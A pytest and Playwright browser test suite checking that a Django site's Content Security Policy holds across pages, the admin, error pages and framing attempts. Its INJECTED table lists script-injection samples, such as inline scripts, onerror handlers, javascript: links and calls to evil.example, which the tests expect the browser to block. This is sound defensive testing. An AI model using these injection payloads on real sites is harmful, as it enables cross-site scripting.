"""The policy in Chromium, over every page and a whole visit: nothing of ours breaks it, and nothing else gets by it."""

from __future__ import annotations

import http.server
import re
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from tests.browser.window import PATIENCE, browse
from tests.support.numbers import number
from tests.support.production import PRODUCTION
from tests.support.stack import Stack

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser

    from tests.browser.window import Tab, Visitor

pytestmark = pytest.mark.browser

PASSWORD = "correct horse battery staple"
# Before any script of the page: what the browser holds against it is told to the test.
LISTENER = """
document.addEventListener("securitypolicyviolation", (event) => {
  violated([event.effectiveDirective, event.blockedURI, event.sample, location.href]);
});
"""


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """A developer's site, with an operator."""
    with Stack(tmp_path_factory.mktemp("site"), SMS_COOLDOWN="3") as stack:
        stack.manage(
            "shell", "-v0", "-c",
            f"from accounts.models import User; User.objects.create_superuser('operator', password={PASSWORD!r})",
        )  # fmt: skip
        yield stack


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """A site in the world, for the pages that tell of errors."""
    stack = Stack(tmp_path_factory.mktemp("world"), workers=0, **PRODUCTION)
    # With its port, so that its sockets know their own page.
    stack.environment["PUBLIC_ORIGIN"] = stack.url
    with stack:
        yield stack


def listen(visitor: Visitor) -> list[Any]:
    """Return the list in which a browser notes, from now on, what breaks the policy in any of its tabs."""
    found: list[Any] = []
    visitor.context.expose_binding("violated", lambda _source, what: found.append(what))
    visitor.context.add_init_script(LISTENER)
    return found


def test_a_whole_visit_breaks_no_rule_of_the_policy(visit: Callable[..., Visitor], stack: Stack) -> None:
    """T-85: every page, mistakes, pushes, the phone, the self-test, signing in and out. The console stays empty too."""
    visitor = visit(stack)
    found = listen(visitor)
    visitor.expects(r"status of 422")
    phone, tab = visitor.open("/dev/phone/"), visitor.open()
    tab.login("nobody-here", "not the password")
    expect(tab("#password-message")).not_to_be_empty()
    tab.by("code")
    tab("#mobile").fill("1")
    tab(".ask button").click()
    expect(tab("#code-message")).not_to_be_empty()
    mobile = number()
    tab.ask(mobile)
    tab.shows("sent", 1)
    tab.enter("000000")
    expect(tab("#verify-message")).not_to_be_empty()
    phone(f"#phone-messages li:has-text('+86{mobile}') button").click()
    expect(tab("#code")).not_to_have_value("000000")
    tab(".verify button").click()
    tab.page.wait_for_url(f"{stack.url}/")
    tab.is_live()
    assert tab.username
    for path in ("/password/", "/login/", "/dev/queue/"):
        tab.go(path)
    tab(".main.button, main form button").first.click()
    expect(tab("#selftest")).not_to_have_attribute("data-done", "0")
    tab("footer button[lang=zh-hans]").click()
    expect(tab("html")).to_have_attribute("lang", "zh-hans")
    tab.is_live()
    tab.logout()
    phone.user("")
    phone.is_live()
    assert found == []


def test_the_admin_keeps_to_the_policy(visit: Callable[..., Visitor], stack: Stack) -> None:
    """T-85, T-89: in by our own login; lists, forms with widgets, a delivery's attempts; out by our own logout."""
    asked = stack.person()
    mobile = number()
    asked.ask(mobile)
    stack.wait_for_state("sent")
    (user,) = stack.rows("SELECT id FROM accounts_user WHERE username = 'operator'")
    delivery = stack.deliveries()[-1]["id"]
    visitor = visit(stack)
    found = listen(visitor)
    visitor.expects(r"/favicon\.ico")
    tab = visitor.open("/admin/accounts/user/")
    assert tab.page.url == f"{stack.url}/login/?next=/admin/accounts/user/"
    tab.login("operator", PASSWORD)
    tab.page.wait_for_url(f"{stack.url}/admin/accounts/user/")
    expect(tab("#result_list")).to_contain_text("operator")
    for path, shows in {
        "/admin/": "#content-main",
        "/admin/tasks/delivery/": f"#result_list:has-text('{mobile}')",
        f"/admin/tasks/delivery/{delivery}/change/": ".inline-group:has-text('phone')",
        "/admin/accounts/user/add/": "#id_username",
        f"/admin/accounts/user/{user['id']}/password/": "#id_password1",
        # Calendar, clock and the two lists of permissions are made by the admin's scripts.
        f"/admin/accounts/user/{user['id']}/change/": ".datetimeshortcuts",
    }.items():
        tab.go(path, live=False)
        expect(tab(shows).first).to_be_visible()
    tab(".datetimeshortcuts a").first.click()
    expect(tab(".selector .selector-chosen").first).to_be_visible()
    tab("[name=_continue]").click()
    expect(tab(".messagelist")).to_contain_text("operator")
    tab("#logout-form button").click()
    tab.page.wait_for_url(f"{stack.url}/")
    tab.user("")
    assert found == []


def test_pages_of_errors_keep_to_the_policy_and_look_like_ours(visit: Callable[..., Visitor], world: Stack) -> None:
    """T-85: 400, 403, 404, 500 and 503, without DEBUG."""
    visitor = visit(world)
    found = listen(visitor)
    visitor.expects(r"status of (40[034]|50[03])")
    tab = visitor.open("/login/", live=False)
    statuses = []

    def look(path: str) -> None:
        answer = tab.page.goto(world.url + path)
        assert answer
        statuses.append(answer.status)

    def post(path: str, field: str) -> None:
        tab.go("/login/", live=False)
        with tab.page.expect_response(f"**{path}") as answer:
            tab.page.evaluate(
                "([path, field]) => { const form = document.createElement('form'); form.method = 'post';"
                "form.action = path; const input = document.createElement('input'); input.name = 'csrfmiddlewaretoken';"
                "input.value = field; form.append(input); document.body.append(form); form.submit(); }",
                [path, field],
            )
        tab.page.wait_for_url(f"**{path}")
        statuses.append(answer.value.status)

    def looks_like_ours() -> None:
        expect(tab("main .status")).to_have_text(str(statuses[-1]))
        # The stylesheet was let in.
        assert tab.page.evaluate("getComputedStyle(document.querySelector('.top')).display") != "block"

    look("/nowhere/")
    looks_like_ours()
    look("/dev/queue/")
    looks_like_ours()
    post("/code/", "not a token")
    expect(tab("#code-message")).to_contain_text("Nothing was sent")
    post("/code/", "x" * 100_000)
    looks_like_ours()
    tab.go("/login/", live=False)
    visitor.take_session(world.broken_session())
    look("/login/")
    looks_like_ours()
    world.rows("ALTER TABLE django_session RENAME TO gone")
    look("/login/")
    looks_like_ours()
    world.rows("ALTER TABLE gone RENAME TO django_session")
    assert statuses == [404, 403, 403, 400, 500, 503]
    assert found == []


def test_an_error_in_the_place_of_leaves_harms_no_page(visit: Callable[..., Visitor], world: Stack) -> None:
    """T-91: 400, 403, 404, 405, 500 and 503 to a request of htmx: small, said in words, and the header stays."""
    visitor = visit(world)
    visitor.expects(r"status of (40[0345]|50[03])", r"Response Status Error Code", r"WebSocket connection to .* failed")
    visitor.expects(r"\[object Event\] .*page\.")
    tab = visitor.open()
    # Long enough to be refused for its length.
    for path, field, status in (("/nowhere/", "", 404), ("/healthz", "", 405), ("/code/", "x" * 100_000, 400)):
        refused(tab, path, field, status, "refused")
    visitor.take_session(world.broken_session())
    refused(tab, "/code/", "13800138000", 500, "away")
    world.rows("ALTER TABLE django_session RENAME TO gone")
    refused(tab, "/code/", "13800138000", 503, "away")
    world.rows("ALTER TABLE gone RENAME TO django_session")
    # A form without its token goes again by itself with a fresh one, and with what was typed (T-46).
    visitor.context.clear_cookies()
    visitor.expects(r"status of 422")
    tab("#mobile").fill("1")
    tab(".ask button").click()
    expect(tab("#code-message")).not_to_be_empty()
    expect(tab("#mobile")).to_have_value("1")


def refused(tab: Tab, path: str, field: str, status: int, word: str) -> None:
    """Send the form to an address that answers with an error, and look at the page afterwards."""
    tab.page.evaluate(
        "path => { const form = document.querySelector('.ask'); form.setAttribute('hx-post', path);"
        "document.querySelector('#mobile').removeAttribute('maxlength'); htmx.process(form); }",
        path,
    )
    tab("#mobile").fill(field)
    with tab.page.expect_response(f"**{path}") as answer:
        tab(".ask button").click()
    assert answer.value.status == status
    assert len(answer.value.body()) < 2048
    expect(tab("#trouble")).to_have_text(tab("#trouble").get_attribute(f"data-{word}") or "")
    for only in ("html", "main", "header.top", "#account", "#delivery", ".ask"):
        expect(tab(only)).to_have_count(1)
    expect(tab(".brand")).to_be_visible()


INJECTED = {
    "a script in the page": "const s = document.createElement('script'); s.textContent = 'window.in_ = 1';"
    "document.body.append(s)",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.in_ = 1\">')",
    "a script from elsewhere": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    "document.body.append(s)",
    "a script of data": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.in_=1';"
    "document.body.append(s)",
    "a link of script": "const a = document.createElement('a'); a.href = 'javascript:window.in_=1';"
    "document.body.append(a); a.click()",
    "eval": "setTimeout('window.in_ = 1')",
    "a style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"position:fixed\">x</p>')",
    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"/login/\"></iframe>')",
    "a base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
    "a form to elsewhere": "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\"></form>');"
    "document.forms[document.forms.length - 1].submit()",
    "a call to elsewhere": "fetch('https://evil.example/').catch(() => {})",
    "a plug-in": "document.body.insertAdjacentHTML('beforeend', '<object data=\"/static/favicon.svg\"></object>')",
}


def test_what_is_injected_into_a_page_does_not_run(chromium: Browser, stack: Stack) -> None:
    """T-85: each kind is refused, and the browser says why."""
    visitor = browse(chromium, stack, lambda _page, _name: None)
    found = listen(visitor)
    tab = visitor.open()
    for name, script in INJECTED.items():
        before = len(found)
        # In a task of its own: the test's own code is exempt from the policy, what it leaves behind is not.
        tab.page.evaluate(f"() => {{ {script} }}")
        for _ in range(PATIENCE // 20):
            tab.page.wait_for_timeout(20)
            if len(found) > before:
                break
        assert len(found) > before, f"{name}: nobody complained"
        assert tab.page.evaluate("window.in_") is None, name
    assert tab.page.url == f"{stack.url}/login/"
    visitor.close()


@contextmanager
def another_site(page: str) -> Iterator[str]:
    """Serve one page elsewhere, and return its address."""

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *words: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()


@pytest.mark.parametrize("path", ["/login/", "/nowhere/", "/static/favicon.svg", "/state/"])
def test_no_other_site_shows_ours_in_a_frame(visit: Callable[..., Visitor], world: Stack, path: str) -> None:
    """T-86: whoever could lay our button under his own."""
    visitor = visit(world)
    visitor.expects(r"frame-ancestors", r"X-Frame-Options", r"status of 404", r"ERR_BLOCKED_BY_RESPONSE")
    with (
        another_site("<p>another site</p>") as other,
        another_site(
            f'<iframe id="ours" src="{world.url}{path}"></iframe><iframe id="theirs" src="{other}"></iframe>'
        ) as trap,
    ):
        tab = visitor.open("/login/", live=False)
        tab.page.goto(trap)
        assert tab.page.frame_locator("#theirs").locator("p").inner_text() == "another site", "or this means nothing"
        ours = tab.page.query_selector("#ours")
        assert ours
        frame = ours.content_frame()
        assert frame
        # Chromium's own page in its place comes when the frame has been given up.
        frame.wait_for_url(re.compile("^chrome-error:"), wait_until="commit")
        assert frame.url.startswith("chrome-error:"), frame.url
        assert tab.page.evaluate("document.querySelector('#ours').contentDocument") is None


def test_signing_out_leaves_nothing_of_the_visit_in_the_browser(visit: Callable[..., Visitor], stack: Stack) -> None:
    """T-39: the back button shows nobody; the language, the fresh session and what other apps of the host keep stay."""
    visitor = visit(stack, locale="en-US")
    tab: Tab = visitor.open()
    tab("footer button[lang=zh-hans]").click()
    expect(tab("html")).to_have_attribute("lang", "zh-hans")
    tab.login("operator", PASSWORD)
    tab.page.wait_for_url(f"{stack.url}/")
    tab.is_live()
    tab.go("/password/")
    tab.page.evaluate("localStorage.kept = 'by an app'; sessionStorage.kept = 'by an app'")
    tab.go("/")
    before = visitor.cookies["sessionid"]["value"]
    tab.logout()
    tab.user("")
    tab.is_live()
    assert tab.page.evaluate("[localStorage.kept, sessionStorage.kept]") == ["by an app", "by an app"]
    assert "username" not in visitor.cookies
    assert visitor.cookies["django_language"]["value"] == "zh-hans"
    assert visitor.cookies["sessionid"]["value"] not in {"", before}
    tab.page.go_back()
    tab.user("")
    assert "operator" not in tab.page.content()
